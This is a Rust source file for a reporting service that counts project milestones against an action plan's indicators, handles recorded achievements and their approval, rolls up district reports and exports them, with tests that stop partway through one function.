//! Reporting: the action plan's indicators and their progress. Plans are data (TOML, versioned);
//! counted indicators take their actual value from `ProjectMilestone` events, each project
//! counted at most once per indicator; recorded indicators from achievements administrators
//! record with evidence.
//!
//! - [`plan`]: the plan model, parsed and validated from the TOML schema of `seeds/README.md`.
//! - [`report`]: actual, progress, status and history of an indicator; pure functions.
//! - [`achievement`]: recorded achievements, their corrections, approvals and rejections, and
//!   who may make them.
//! - [`rollup`]: a city's or province's report over the plans of its districts.
//! - [`store`]: the tables, on SQLite or PostgreSQL.
//! - [`grpc`]: the adapter between `cwsm.reporting.v1` (and the milestone event) and the above.
//! - [`export`]: the report as CSV or an Excel workbook.
//! - [`dashboard`]: the administrators' web page, over HTTP on the gRPC port.
//! - [`watch`]: live reports, computed once per change for all their watchers.
//! - [`bench`]: `cwsm report bench`.
//!
//! Reporting keeps its own copy of the milestone facts, and in the same transaction as each new
//! fact the counts it changes: per plan version and counted indicator, the projects counted
//! (once each, by natural key) and the changes of the count by day, town and sector. A report
//! reads those few aggregate rows, never the projects; a plan version loaded later counts the
//! facts already there when it loads; applying an event twice changes nothing (the event id and
//! the project's milestone are both deduplicated in that transaction). `report::counted` computes
//! the same numbers from the facts, and a test holds the two equal.

pub mod achievement;
pub mod bench;
pub mod convert;
pub mod dashboard;
pub mod events;
pub mod evidence;
pub mod export;
pub mod grpc;
pub mod kept;
pub mod plan;
pub mod report;
pub mod rollup;
pub mod store;
pub mod watch;

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use chrono::NaiveDate;
use cwsm_platform::auth::Principal;
use cwsm_platform::db::Db;
use cwsm_platform::grpc::Page;
use cwsm_platform::idempotency::RequestKey;
use cwsm_platform::vocab::{Milestone, Sector};
use cwsm_platform::{Error, Result, now_ms};

use crate::achievement::{Achievement, Correction, NewAchievement, State};
use crate::plan::StoredPlan;
use crate::report::{Fact, Report};
use crate::store::{AchievementFilter, PlanFilter, Store};

/// The fully qualified gRPC service name, for health and reflection.
pub const SERVICE_NAME: &str = "cwsm.reporting.v1.ReportingService";

/// The reporting service: its store and the channel that tells report watchers that counts or
/// achievements changed.
#[derive(Clone)]
pub struct Reporting {
    store: Store,
    /// A generation number, bumped after every committed change that can alter a report.
    changes: Arc<tokio::sync::watch::Sender<u64>>,
    /// Where the projects service answers (for RebuildCounts); set once the server listens.
    projects_url: Arc<std::sync::RwLock<Option<(String, cwsm_platform::server::ClientTls)>>>,
    /// WatchReport streams open per caller.
    watch_streams: Arc<cwsm_platform::server::CallerStreams>,
    /// How many reports were computed (read from the store), for tests of the watchers' fan-out.
    computations: Arc<AtomicU64>,
    /// Reports computed before, served while their plan is unchanged.
    kept: Arc<kept::KeptReports>,
    /// The live reports shared by their watchers (see [`watch`]).
    feeds: Arc<watch::Feeds>,
    /// The platform's district (the `district_code` setting): where a milestone without a
    /// jurisdiction code is.
    district: cwsm_platform::jurisdiction::Jurisdiction,
    /// Where evidence documents' bytes are kept ([`Reporting::keep_documents_in`]); none:
    /// uploads are refused saying so.
    documents: Option<cwsm_platform::documents::DocumentStore>,
}

/// `validate` has already refused an unknown indicator; an error, not a panic, if it did not.
fn unreachable_indicator(code: &str) -> Result<State> {
    Err(Error::invalid(
        "indicator_code",
        format!("no indicator {code:?}"),
    ))
}

/// Today in China Standard Time.
pub fn today() -> NaiveDate {
    report::cst_date(now_ms())
}

impl Reporting {
    pub async fn connect(database_url: &str) -> anyhow::Result<Reporting> {
        Self::connect_in(
            database_url,
            cwsm_platform::jurisdiction::Jurisdiction::default_district(),
        )
        .await
    }

    /// Connects for a platform serving `district` (the `district_code` setting): milestones
    /// published without a jurisdiction code are there.
    pub async fn connect_in(
        database_url: &str,
        district: cwsm_platform::jurisdiction::Jurisdiction,
    ) -> anyhow::Result<Reporting> {
        Ok(Self::with_store(
            Store::connect_in(database_url, district.clone()).await?,
            district,
        ))
    }

    fn with_store(store: Store, district: cwsm_platform::jurisdiction::Jurisdiction) -> Reporting {
        let (changes, _) = tokio::sync::watch::channel(0);
        Reporting {
            district,
            store,
            changes: Arc::new(changes),
            projects_url: Arc::new(std::sync::RwLock::new(None)),
            watch_streams: cwsm_platform::server::CallerStreams::new("WatchReport", 4),
            computations: Arc::new(AtomicU64::new(0)),
            kept: Arc::default(),
            feeds: Arc::default(),
            documents: None,
        }
    }

    /// Loads `seeds/plans/xinbei-2020.toml` as version 1 when no plan with its code exists yet.
    /// Returns true when it loaded it.
    pub async fn seed_default_plan(&self) -> anyhow::Result<bool> {
        let parsed = plan::parse(plan::DEFAULT_PLAN_TOML)
            .map_err(|e| anyhow::anyhow!("the embedded default plan is invalid: {e}"))?;
        if self.store.plan_exists(&parsed.code).await? {
            return Ok(false);
        }
        let loaded = self
            .store
            .insert_plan(
                &RequestKey::from_bytes(
                    &Principal {
                        subject: "seed".into(),
                        role: cwsm_platform::auth::Role::Admin,
                        org: None,
                        scope: cwsm_platform::auth::Scope::Platform,
                    },
                    "LoadPlan",
                    &parsed.code,
                    &format!("seed:{}", parsed.code),
                    plan::DEFAULT_PLAN_TOML.as_bytes(),
                )?,
                &parsed,
                plan::DEFAULT_PLAN_TOML,
                &cwsm_platform::documents::sha256_hex(plan::DEFAULT_PLAN_TOML.as_bytes()),
                "seed",
            )
            .await;
        match loaded {
            Ok(_) => {
                self.notify();
                tracing::info!(plan = %parsed.code, "loaded the default action plan");
                Ok(true)
            }
            // Another replica seeded it at the same moment.
            Err(_) if self.store.plan_exists(&parsed.code).await? => Ok(false),
            Err(e) => Err(e.into()),
        }
    }

    /// The handler of `cwsm.events.v1.ProjectMilestone` events (topic
    /// `topics::PROJECT_MILESTONES`); other kinds are acknowledged and ignored.
    pub fn event_handler(&self) -> Arc<dyn cwsm_platform::bus::EventHandler> {
        Arc::new(events::MilestoneHandler::new(self.clone()))
    }

    /// WatchReport streams open at once per caller; call before serving.
    pub fn limit_watchers_per_caller(&mut self, streams: usize) {
        self.watch_streams = cwsm_platform::server::CallerStreams::new("WatchReport", streams);
    }

    pub(crate) fn watch_streams(&self) -> &Arc<cwsm_platform::server::CallerStreams> {
        &self.watch_streams
    }

    pub fn grpc_service(
        &self,
        auth: cwsm_platform::auth::AuthInterceptor,
    ) -> tonic::service::interceptor::InterceptedService<
        cwsm_proto::reporting::v1::reporting_service_server::ReportingServiceServer<
            grpc::ReportingApi,
        >,
        cwsm_platform::auth::AuthInterceptor,
    > {
        cwsm_proto::reporting::v1::reporting_service_server::ReportingServiceServer::with_interceptor(
            grpc::ReportingApi::new(self.clone()),
            auth,
        )
    }

    pub fn db(&self) -> &Db {
        &self.store.db
    }

    /// The platform's district.
    pub fn district(&self) -> &cwsm_platform::jurisdiction::Jurisdiction {
        &self.district
    }

    /// Where the projects service answers, for RebuildCounts: the own server in the embedded
    /// mode, the `projects_url` setting in production.
    pub fn set_projects_url(&self, url: Option<(String, cwsm_platform::server::ClientTls)>) {
        if let Ok(mut slot) = self.projects_url.write() {
            *slot = url;
        }
    }

    pub fn projects_url(&self) -> Option<(String, cwsm_platform::server::ClientTls)> {
        self.projects_url.read().ok().and_then(|u| u.clone())
    }

    /// The administrators' dashboard (`/dashboard`), served over HTTP beside gRPC.
    /// Streams of live updates end when `shutdown` is cancelled.
    pub fn dashboard(
        &self,
        keys: Arc<cwsm_platform::auth::Keys>,
        shutdown: tokio_util::sync::CancellationToken,
        options: dashboard::Options,
    ) -> axum::Router {
        dashboard::router(self.clone(), keys, shutdown, options)
    }

    /// Tells watchers that a report may have changed.
    pub fn notify(&self) {
        self.changes.send_modify(|n| *n = n.wrapping_add(1));
    }

    /// A receiver that sees a change after every committed change to facts, achievements or
    /// plans (in this process).
    pub fn subscribe(&self) -> tokio::sync::watch::Receiver<u64> {
        self.changes.subscribe()
    }

    // -- operations ---------------------------------------------------------------------------

    /// Stores a milestone fact once; notifies watchers when it is new.
    pub async fn apply_fact(&self, fact: &Fact) -> Result<bool> {
        let added = self.store.apply_fact(fact).await?;
        if added {
            self.notify();
        }
        Ok(added)
    }

    /// Parses and validates `toml` and stores it as the next version of its code (unless
    /// `validate_only`). Administrators only. `request` stands for the whole request (its
    /// encoding): the idempotency key's fingerprint.
    pub async fn load_plan(
        &self,
        caller: &Principal,
        request_id: &str,
        request: &[u8],
        toml: &str,
        validate_only: bool,
    ) -> Result<StoredPlan> {
        caller.require_admin("load plans")?;
        // A dry run stores nothing and needs no idempotency key.
        let request_id = if validate_only {
            request_id
        } else {
            cwsm_platform::grpc::request_id(request_id)?
        };
        let parsed = plan::parse(toml).map_err(|e| Error::invalid("plan_toml", e.to_string()))?;
        let sha = cwsm_platform::documents::sha256_hex(toml.as_bytes());
        if validate_only {
            let version = match self.store.plan_by_code(&parsed.code, 0).await {
                Ok(p) => p.version + 1,
                Err(Error::NotFound { .. }) => 1,
                Err(e) => return Err(e),
            };
            return Ok(StoredPlan {
                id: String::new(),
                version,
                plan: parsed,
                document: toml.to_string(),
                sha256: sha,
                loaded_by: caller.subject.clone(),
                loaded_at_ms: now_ms(),
            });
        }
        // Administrators load plans of their own jurisdiction only (a department none).
        caller.require_administer(
            &format!("load plan {}", parsed.code),
            &parsed.jurisdiction,
            None,
        )?;
        let key = RequestKey::from_bytes(caller, "LoadPlan", &parsed.code, request_id, request)?;
        let id = self
            .store
            .insert_plan(&key, &parsed, toml, &sha, &caller.subject)
            .await?;
        self.notify();
        self.store.plan_by_id(&id).await
    }

    pub async fn plan(&self, id: &str, code: &str, version: i64) -> Result<StoredPlan> {
        if !id.is_empty() {
            self.store.plan_by_id(id).await
        } else if !code.is_empty() {
            if version < 0 {
                return Err(Error::invalid("version", "must not be negative"));
            }
            self.store.plan_by_code(code, version).await
        } else {
            Err(Error::invalid(
                "plan_id",
                "set plan_id, or code (and version)",
            ))
        }
    }

    pub async fn list_plans(
        &self,
        filter: &PlanFilter,
        page: &Page,
    ) -> Result<(Vec<StoredPlan>, String)> {
        self.store.list_plans(filter, page).await
    }

    /// The report of plan `code` (`version` 0: the latest) as of `as_of`.
    pub async fn report(&self, code: &str, version: i64, as_of: NaiveDate) -> Result<Report> {
        if code.trim().is_empty() {
            return Err(Error::invalid(
                "plan_code",
                "required, e.g. \"xinbei-2020\"",
            ));
        }
        if version < 0 {
            return Err(Error::invalid("plan_version", "must not be negative"));
        }
        let stored = self.store.plan_by_code(code.trim(), version).await?;
        self.report_of(&stored, as_of).await
    }

    /// The report of a stored plan as of `as_of`: kept from before while the plan is unchanged
    /// (see [`kept`]), else computed from its kept counts.
    /// A city's or province's plan with rolled-up indicators sums the district plans inside it
    /// (their reports kept or computed, never its own kept with theirs).
    pub async fn report_of(&self, stored: &StoredPlan, as_of: NaiveDate) -> Result<Report> {
        let mut report = self.kept_reports(&[stored], as_of).await?;
        let mut report = report
            .pop()
            .map(|r| Report::clone(&r))
            .ok_or_else(|| Error::not_found("plan", &stored.id))?;
        if stored.plan.rolls_up() {
            let gazetteer = cwsm_platform::gazetteer::Gazetteer::builtin();
            let plans = self.store.latest_plans().await?;
            let (_, inside) = rollup::select(
                gazetteer,
                &stored.plan.jurisdiction,
                stored.plan.year,
                &plans,
            );
            let districts = self.kept_reports(&inside, as_of).await?;
            let districts: Vec<&Report> = districts.iter().map(|r| &**r).collect();
            report::roll_up_into(&mut report, &districts);
        }
        Ok(report)
    }

    /// The reports of `plans` as of `as_of`, kept or computed, after one read of their
    /// generations.
    async fn kept_reports(
        &self,
        plans: &[&StoredPlan],
        as_of: NaiveDate,
    ) -> Result<Vec<Arc<Report>>> {
        let ids: Vec<&str> = plans.iter().map(|p| p.id.as_str()).collect();
        let generations = self.store.generations(&ids).await?;
        let mut out = Vec::with_capacity(plans.len());
        for (p, g) in plans.iter().zip(generations) {
            out.push(self.kept_report(p, as_of, g).await?);
        }
        Ok(out)
    }

    /// The report of `stored` as of `as_of` at the plan's `generation` (read before, so a
    /// change committed meanwhile raises it past what is kept now).
    async fn kept_report(
        &self,
        stored: &StoredPlan,
        as_of: NaiveDate,
        generation: i64,
    ) -> Result<Arc<Report>> {
        if let Some(report) = self.kept.get(&stored.id, as_of, generation, today()) {
            return Ok(report);
        }
        let report = Arc::new(self.compute_report(stored, as_of).await?);
        self.kept
            .keep(&stored.id, as_of, generation, Arc::clone(&report));
        Ok(report)
    }

    /// The report of `stored` as of `as_of` computed from its kept counts, never taken from
    /// the kept reports: the work a change costs (the benchmark measures it).
    pub async fn compute_report(&self, stored: &StoredPlan, as_of: NaiveDate) -> Result<Report> {
        self.computations.fetch_add(1, Ordering::Relaxed);
        let totals = self
            .store
            .count_totals(&stored.id, report::day_number(as_of))
            .await?;
        let recorded = self.store.recorded(&stored.plan.code).await?;
        Ok(report::report_from_totals(
            stored,
            &totals,
            &recorded,
            as_of,
            now_ms(),
        ))
    }

    /// The roll-up of city or province `code` for plans of `year` (0: the year of `as_of`) as
    /// of `as_of`, over the builtin gazetteer. Public like the reports it is made of.
    pub async fn rollup(&self, code: &str, year: i32, as_of: NaiveDate) -> Result<rollup::Rollup> {
        let gazetteer = cwsm_platform::gazetteer::Gazetteer::builtin();
        let place = rollup::place(gazetteer, "jurisdiction_code", code)?;
        let year = if year == 0 {
            chrono::Datelike::year(&as_of)
        } else if (1900..=2200).contains(&year) {
            year
        } else {
            return Err(Error::invalid("year", format!("{year} is out of range")));
        };
        let plans = self.store.latest_plans().await?;
        let (own, districts) = rollup::select(gazetteer, &place.code, year, &plans);
        let cities = rollup::select_cities(&place.code, year, &plans);
        self.rollup_of(gazetteer, place, year, as_of, &own, &cities, &districts)
            .await
    }

    /// The roll-up of `place` over the given plans: its own, those of the cities inside (for a
    /// province) and the districts' (the bench gives its own gazetteer).
    #[allow(clippy::too_many_arguments)] // the place, its date and its three sets of plans
    pub async fn rollup_of(
        &self,
        gazetteer: &cwsm_platform::gazetteer::Gazetteer,
        place: &cwsm_platform::gazetteer::Place,
        year: i32,
        as_of: NaiveDate,
        own: &[&StoredPlan],
        cities: &[&StoredPlan],
        districts: &[&StoredPlan],
    ) -> Result<rollup::Rollup> {
        let district_reports = self.kept_reports(districts, as_of).await?;
        // A higher plan's rolled-up lines sum the districts inside its own jurisdiction.
        let higher = |reports: Vec<Arc<Report>>| {
            reports
                .into_iter()
                .map(|r| {
                    let mut r = Report::clone(&r);
                    if r.plan.plan.rolls_up() {
                        let within = &r.plan.plan.jurisdiction;
                        let inside: Vec<&Report> = district_reports
                            .iter()
                            .filter(|d| within.contains(&d.plan.plan.jurisdiction))
                            .map(|d| &**d)
                            .collect();
                        report::roll_up_into(&mut r, &inside);
                    }
                    r
                })
                .collect::<Vec<Report>>()
        };
        let own_reports = higher(self.kept_reports(own, as_of).await?);
        let city_reports = higher(self.kept_reports(cities, as_of).await?);
        Ok(rollup::build(
            gazetteer,
            place,
            year,
            as_of,
            own_reports,
            city_reports,
            district_reports,
        ))
    }

    /// The date a report of plan `code` is as of: `asked`, or when none is asked today, or the
    /// last day of the plan's window when today is past it ([`report::default_as_of`]).
    pub async fn as_of(
        &self,
        code: &str,
        version: i64,
        asked: Option<NaiveDate>,
    ) -> Result<NaiveDate> {
        if let Some(date) = asked {
            return Ok(date);
        }
        if code.trim().is_empty() {
            return Err(Error::invalid(
                "plan_code",
                "required, e.g. \"xinbei-2020\"",
            ));
        }
        if version < 0 {
            return Err(Error::invalid("plan_version", "must not be negative"));
        }
        let stored = self.store.plan_by_code(code.trim(), version).await?;
        Ok(report::default_as_of(&stored.plan, today()))
    }

    /// How many reports this service has computed since it started (every [`Reporting::report`]).
    pub fn report_computations(&self) -> u64 {
        self.computations.load(Ordering::Relaxed)
    }

    /// Sets an event the consumer cannot use aside for administrators.
    pub async fn dead_letter(
        &self,
        envelope: &cwsm_platform::bus::Envelope,
        reason: &str,
    ) -> Result<()> {
        tracing::warn!(event_id = %envelope.event_id, kind = %envelope.kind, reason, "event set aside as a dead letter");
        let event_id = if envelope.event_id.is_empty() {
            format!("unnamed:{}", cwsm_platform::new_id())
        } else {
            envelope.event_id.clone()
        };
        self.store
            .dead_letter(&store::DeadLetter {
                event_id,
                topic: envelope.topic.clone(),
                kind: envelope.kind.clone(),
                reason: reason.to_string(),
                payload_size: i64::try_from(envelope.payload.len()).unwrap_or(i64::MAX),
                received_at_ms: now_ms(),
            })
            .await
    }

    /// The dead letters, oldest first. Administrators only.
    pub async fn dead_letters(
        &self,
        caller: &Principal,
        page: &Page,
    ) -> Result<(Vec<store::DeadLetter>, String)> {
        caller.require_admin("see dead letters")?;
        self.store.dead_letters(page).await
    }

    /// How many events were set aside.
    pub async fn dead_letter_count(&self) -> Result<i64> {
        self.store.dead_letter_count().await
    }

    /// The report as a CSV or Excel file in `lang`. The workbook lists the projects counted
    /// when `caller` may see them by name (an administrator of the plan's jurisdiction, as
    /// [`Reporting::counted_projects`]); others get the report without that sheet.
    pub async fn export(
        &self,
        caller: Option<&Principal>,
        code: &str,
        version: i64,
        as_of: NaiveDate,
        format: export::FileFormat,
        lang: cwsm_platform::lang::Lang,
    ) -> Result<export::Exported> {
        let report = self.report(code, version, as_of).await?;
        let plan = &report.plan.plan;
        let may_see = caller.is_some_and(|c| {
            achievement::require_plan_jurisdiction(c, "see the counted projects", plan).is_ok()
        });
        let counted = if may_see && format == export::FileFormat::Xlsx {
            Some(self.counted_rows(plan, as_of).await?)
        } else {
            None
        };
        export::export(
            &report,
            format,
            export::Ask {
                lang,
                counted: counted.as_deref(),
            },
        )
    }

    /// Every project each counted indicator of `plan` counts as of `as_of`, indicator by
    /// indicator in the plan's order, oldest effective date first.
    async fn counted_rows(
        &self,
        plan: &plan::Plan,
        as_of: NaiveDate,
    ) -> Result<Vec<export::CountedRow>> {
        let scope = report::Scope::of(plan);
        // The facts of each milestone once, however many indicators count it.
        let mut facts_of: std::collections::HashMap<Milestone, Vec<Fact>> = Default::default();
        let mut rows = Vec::new();
        for indicator in plan.goals.iter().chain(&plan.indicators) {
            let Some(rule) = indicator.rule.as_ref().filter(|_| indicator.kind.counts()) else {
                continue;
            };
            if let std::collections::hash_map::Entry::Vacant(slot) = facts_of.entry(rule.milestone)
            {
                slot.insert(self.store.facts(&[rule.milestone]).await?);
            }
            let facts = facts_of.get(&rule.milestone).map_or(&[][..], Vec::as_slice);
            let mut counted = report::counted(rule, &scope, facts, as_of);
            counted.sort_by(|a, b| {
                (a.effective_date, &a.event_id).cmp(&(b.effective_date, &b.event_id))
            });
            rows.extend(counted.into_iter().map(|f| export::CountedRow {
                indicator_code: indicator.code.clone(),
                indicator: cwsm_platform::lang::Text::new(&indicator.name_zh, &indicator.name),
                project_title: f.project_title.clone(),
                water_user: f.water_user_name.clone(),
                company: f.company_name.clone(),
                town: f.town.clone(),
                milestone: f.milestone,
                effective_date: f.effective_date,
            }));
        }
        Ok(rows)
    }

    /// The counts of the counted indicators of plan `code` (latest version) as of today (or
    /// the end of its window when today is past it).
    pub async fn counts(&self, code: &str) -> Result<Vec<(String, i64)>> {
        let as_of = self.as_of(code, 0, None).await?;
        let report = self.report(code, 0, as_of).await?;
        Ok(report
            .lines
            .iter()
            .filter(|l| l.indicator.kind.counts())
            .map(|l| (l.indicator.code.clone(), l.actual as i64))
            .collect())
    }

    /// Deletes every milestone fact and processed-event record (the counts start from nothing;
    /// a rebuild brings them back). Administrators only; for tests and recovery.
    pub async fn forget_facts(&self, caller: &Principal) -> Result<u64> {
        caller.require_admin("forget facts")?;
        let n = self.store.forget_facts().await?;
        self.notify();
        Ok(n)
    }

    pub async fn record_achievement(
        &self,
        caller: &Principal,
        request_id: &str,
        request: &[u8],
        mut new: NewAchievement,
    ) -> Result<Achievement> {
        caller.require_admin("record achievements")?;
        let key = RequestKey::from_bytes(caller, "RecordAchievement", "", request_id, request)?;
        if new.plan_code.trim().is_empty() {
            return Err(Error::invalid(
                "plan_code",
                "required, e.g. \"xinbei-2020\"",
            ));
        }
        let stored = self.store.plan_by_code(new.plan_code.trim(), 0).await?;
        new.plan_code = stored.plan.code.clone();
        achievement::require_plan_jurisdiction(caller, "record achievements", &stored.plan)?;
        // A department records as itself.
        if let Some(own) = achievement::caller_department(caller) {
            if new.department.is_empty() {
                new.department = own.to_string();
            } else if new.department != own {
                return Err(Error::denied(format!(
                    "department {own} records achievements as {own}, not as {}",
                    new.department
                )));
            }
        }
        new.validate(&stored.plan, today())?;
        let state = match stored.plan.indicator(&new.indicator_code) {
            Some(indicator) => achievement::recording_state(
                caller,
                "record achievements",
                &stored.plan,
                indicator,
            )?,
            None => unreachable_indicator(&new.indicator_code)?,
        };
        self.check_cited(&stored.plan.code, "evidence", &new.evidence)
            .await?;
        let id = self
            .store
            .record_achievement(&key, &new, &caller.subject, state)
            .await?;
        self.notify();
        self.store.achievement(&id).await
    }

    pub async fn correct_achievement(
        &self,
        caller: &Principal,
        request_id: &str,
        request: &[u8],
        achievement_id: &str,
        expected_version: i64,
        correction: Correction,
    ) -> Result<Achievement> {
        caller.require_admin("correct achievements")?;
        let key = RequestKey::from_bytes(
            caller,
            "CorrectAchievement",
            achievement_id,
            request_id,
            request,
        )?;
        if achievement_id.is_empty() {
            return Err(Error::invalid("achievement_id", "required"));
        }
        let current = self.store.achievement(achievement_id).await?;
        let stored = self.store.plan_by_code(&current.plan_code, 0).await?;
        let indicator = stored
            .plan
            .indicator(&current.indicator_code)
            .ok_or_else(|| {
                Error::precondition(format!(
                    "the latest version of plan {} has no indicator {}: its achievements can no longer be corrected",
                    stored.plan.code, current.indicator_code
                ))
            })?;
        let state =
            achievement::recording_state(caller, "correct achievements", &stored.plan, indicator)?;
        correction.check_against(&stored.plan, indicator, today())?;
        self.check_cited(&stored.plan.code, "evidence", &correction.evidence)
            .await?;
        self.store
            .correct_achievement(
                &key,
                achievement_id,
                expected_version,
                correction,
                &caller.subject,
                state,
            )
            .await?;
        self.notify();
        self.store.achievement(achievement_id).await
    }

    /// Approves (`State::Approved`) or rejects (`State::Rejected`, `reason` required) a
    /// pending achievement: administrators of a lead department of its indicator, or of the
    /// plan's jurisdiction without a department.
    #[allow(clippy::too_many_arguments)]
    pub async fn decide_achievement(
        &self,
        caller: &Principal,
        request_id: &str,
        request: &[u8],
        achievement_id: &str,
        expected_version: i64,
        decision: State,
        reason: &str,
    ) -> Result<Achievement> {
        let (method, what) = match decision {
            State::Approved => ("ApproveAchievement", "approve achievements"),
            State::Rejected => ("RejectAchievement", "reject achievements"),
            State::Pending => {
                return Err(Error::Internal(anyhow::anyhow!(
                    "a decision is approved or rejected"
                )));
            }
        };
        caller.require_admin(what)?;
        let key = RequestKey::from_bytes(caller, method, achievement_id, request_id, request)?;
        if achievement_id.is_empty() {
            return Err(Error::invalid("achievement_id", "required"));
        }
        if decision == State::Rejected && reason.trim().is_empty() {
            return Err(Error::invalid(
                "reason",
                "required: why the achievement is rejected",
            ));
        }
        let current = self.store.achievement(achievement_id).await?;
        let stored = self.store.plan_by_code(&current.plan_code, 0).await?;
        match stored.plan.indicator(&current.indicator_code) {
            Some(indicator) => {
                achievement::require_approver(caller, what, &stored.plan, indicator)?
            }
            None => achievement::require_plan_jurisdiction(caller, what, &stored.plan)?,
        }
        self.store
            .decide_achievement(
                &key,
                achievement_id,
                expected_version,
                decision,
                reason.trim(),
                &caller.subject,
            )
            .await?;
        self.notify();
        self.store.achievement(achievement_id).await
    }

    pub async fn list_achievements(
        &self,
        filter: &AchievementFilter,
        page: &Page,
    ) -> Result<(Vec<Achievement>, String)> {
        self.store.list_achievements(filter, page).await
    }

    /// The facts that count toward counted indicator `indicator_code` of the latest version of
    /// plan `plan_code` as of today, in the order they were counted.
    pub async fn counted_projects(
        &self,
        caller: &Principal,
        plan_code: &str,
        indicator_code: &str,
        town: &str,
        sector: Option<Sector>,
        page: &Page,
    ) -> Result<(Vec<Fact>, String)> {
        if plan_code.trim().is_empty() {
            return Err(Error::invalid(
                "plan_code",
                "required, e.g. \"xinbei-2020\"",
            ));
        }
        let stored = self.store.plan_by_code(plan_code.trim(), 0).await?;
        // The projects counted name water users and companies: the plan's administrators only.
        achievement::require_plan_jurisdiction(caller, "list the counted projects", &stored.plan)?;
        let indicator = stored.plan.indicator(indicator_code).ok_or_else(|| {
            Error::invalid(
                "indicator_code",
                format!(
                    "plan {} has no indicator {indicator_code:?}",
                    stored.plan.code
                ),
            )
        })?;
        let rule = match (indicator.kind.counts(), &indicator.rule) {
            (true, Some(rule)) => rule,
            _ => {
                return Err(Error::invalid(
                    "indicator_code",
                    format!("{indicator_code} is recorded, not counted; see ListAchievements"),
                ));
            }
        };
        let facts = self.store.facts(&[rule.milestone]).await?;
        let key = |f: &Fact| format!("{:020}|{}", f.counted_at_ms, f.event_id);
        let as_of = report::default_as_of(&stored.plan, today());
        let scope = report::Scope::of(&stored.plan);
        let mut rows: Vec<Fact> = report::counted(rule, &scope, &facts, as_of)
            .into_iter()
            .filter(|f| town.is_empty() || f.town == town)
            .filter(|f| sector.is_none() || f.sector == sector)
            .filter(|f| page.after.as_ref().is_none_or(|after| key(f) > *after))
            .take(usize::try_from(page.fetch_limit()).unwrap_or(usize::MAX))
            .cloned()
            .collect();
        let next = page.finish(&mut rows, key);
        Ok((rows, next))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cwsm_platform::bus::{Envelope, topics};
    use cwsm_platform::vocab::{IndicatorTag, Milestone};
    use cwsm_proto::events::v1::ProjectMilestone;
    use prost::Message;

    async fn temp() -> (Reporting, std::path::PathBuf) {
        let path =
            std::env::temp_dir().join(format!("cwsm-reporting-{}.db", cwsm_platform::new_id()));
        let r = Reporting::connect(&format!("sqlite://{}", path.display()))
            .await
            .expect("connect");
        (r, path)
    }

    fn cleanup(path: &std::path::Path) {
        for suffix in ["", "-wal", "-shm"] {
            let _ = std::fs::remove_file(format!("{}{suffix}", path.display()));
        }
    }

    fn envelope(event_id: &str, project_id: &str, milestone: Milestone) -> Envelope {
        let payload = ProjectMilestone {
            event_id: event_id.into(),
            project_id: project_id.into(),
            sequence: 1,
            milestone: milestone.number(),
            // 2020-09-01T00:00:00Z
            occurred_time: Some(cwsm_platform::grpc::timestamp(1_598_918_400_000)),
            project_title: "Campus retrofit".into(),
            sector: Sector::School.number(),
            unit_type: "university".into(),
            town: "Xuejia".into(),
            indicator_tags: vec![cwsm_platform::vocab::IndicatorTag::ContractProject.number()],
            ..Default::default()
        };
        Envelope {
            event_id: event_id.into(),
            topic: topics::PROJECT_MILESTONES.into(),
            kind: topics::PROJECT_MILESTONE_KIND.into(),
            payload: payload.encode_to_vec(),
            occurred_at_ms: 1_598_918_400_000,
            trace_parent: String::new(),
        }
    }

    async fn a8(r: &Reporting) -> f64 {
        let report = r
            .report("xinbei-2020", 0, report::parse_date("2020-12-31").unwrap())
            .await
            .expect("report");
        report
            .lines
            .iter()
            .find(|l| l.indicator.code == "A8-CONTRACT-PROJECTS")
            .expect("a8")
            .actual
    }

    #[tokio::test]
    async fn each_project_milestone_counts_exactly_once() {
        let (r, path) = temp().await;
        assert!(r.seed_default_plan().await.expect("seed"));
        assert!(!r.seed_default_plan().await.expect("seeded already"));
        let handler = r.event_handler();
        let mut watcher = r.subscribe();
        watcher.borrow_and_update();

        let e = envelope("ev-1", "p-1", Milestone::Contracted);
        handler.handle(&e).await.expect("first");
        assert!(watcher.has_changed().expect("watch"));
        watcher.borrow_and_update();
        handler.handle(&e).await.expect("redelivered");
        assert!(
            !watcher.has_changed().expect("watch"),
            "a redelivery changes nothing"
        );
        assert_eq!(a8(&r).await, 1.0);

        // The same project's handover re-emitted under another event id.
        handler
            .handle(&envelope("ev-2", "p-1", Milestone::Contracted))
            .await
            .expect("re-emitted");
        assert_eq!(a8(&r).await, 1.0);

        // A malformed event and one of an unknown milestone are set aside, not retried.
        let mut broken = envelope("ev-bad", "p-9", Milestone::Contracted);
        broken.payload = vec![0xff, 0xff, 0xff];
        handler.handle(&broken).await.expect("set aside");
        handler.handle(&broken).await.expect("set aside once");
        let mut unknown = envelope("ev-unknown", "p-9", Milestone::Contracted);
        unknown.payload = ProjectMilestone {
            event_id: "ev-unknown".into(),
            project_id: "p-9".into(),
            milestone: 99,
            ..Default::default()
        }
        .encode_to_vec();
        handler.handle(&unknown).await.expect("set aside");
        let admin = Principal {
            subject: "t".into(),
            role: cwsm_platform::auth::Role::Admin,
            org: None,
            scope: cwsm_platform::auth::Scope::Platform,
        };
        let (letters, _) = r
            .dead_letters(&admin, &Page::from_request(10, "").expect("page"))
            .await
            .expect("dead letters");
        assert_eq!(letters.len(), 2);
        assert!(letters.iter().any(|d| d.reason.contains("undecodable")));
        assert!(
            letters
                .iter()
                .any(|d| d.reason.contains("unknown milestone 99"))
        );
        let user = Principal {
            role: cwsm_platform::auth::Role::WaterUser,
            ..admin.clone()
        };
        assert!(
            r.dead_letters(&user, &Page::from_request(10, "").expect("page"))
                .await
                .is_err()
        );

        // Another kind on the topic is acknowledged and ignored.
        let mut other = envelope("ev-3", "p-2", Milestone::Contracted);
        other.kind = "cwsm.events.v1.Something".into();
        handler.handle(&other).await.expect("ignored");
        assert_eq!(a8(&r).await, 1.0);

        // A second project counts.
        handler
            .handle(&envelope("ev-4", "p-2", Milestone::Contracted))
            .await
            .expect("second project");
        assert_eq!(a8(&r).await, 2.0);

        let page = Page::from_request(1, "").expect("page");
        let (first, next) = r
            .counted_projects(
                &admin,
                "xinbei-2020",
                "A8-CONTRACT-PROJECTS",
                "",
                None,
                &page,
            )
            .await
            .expect("counted");
        assert_eq!(first.len(), 1);
        assert!(!next.is_empty());
        let page = Page::from_request(1, &next).expect("next page");
        let (second, last) = r
            .counted_projects(
                &admin,
                "xinbei-2020",
                "A8-CONTRACT-PROJECTS",
                "",
                None,
                &page,
            )
            .await
            .expect("counted");
        assert_eq!(second.len(), 1);
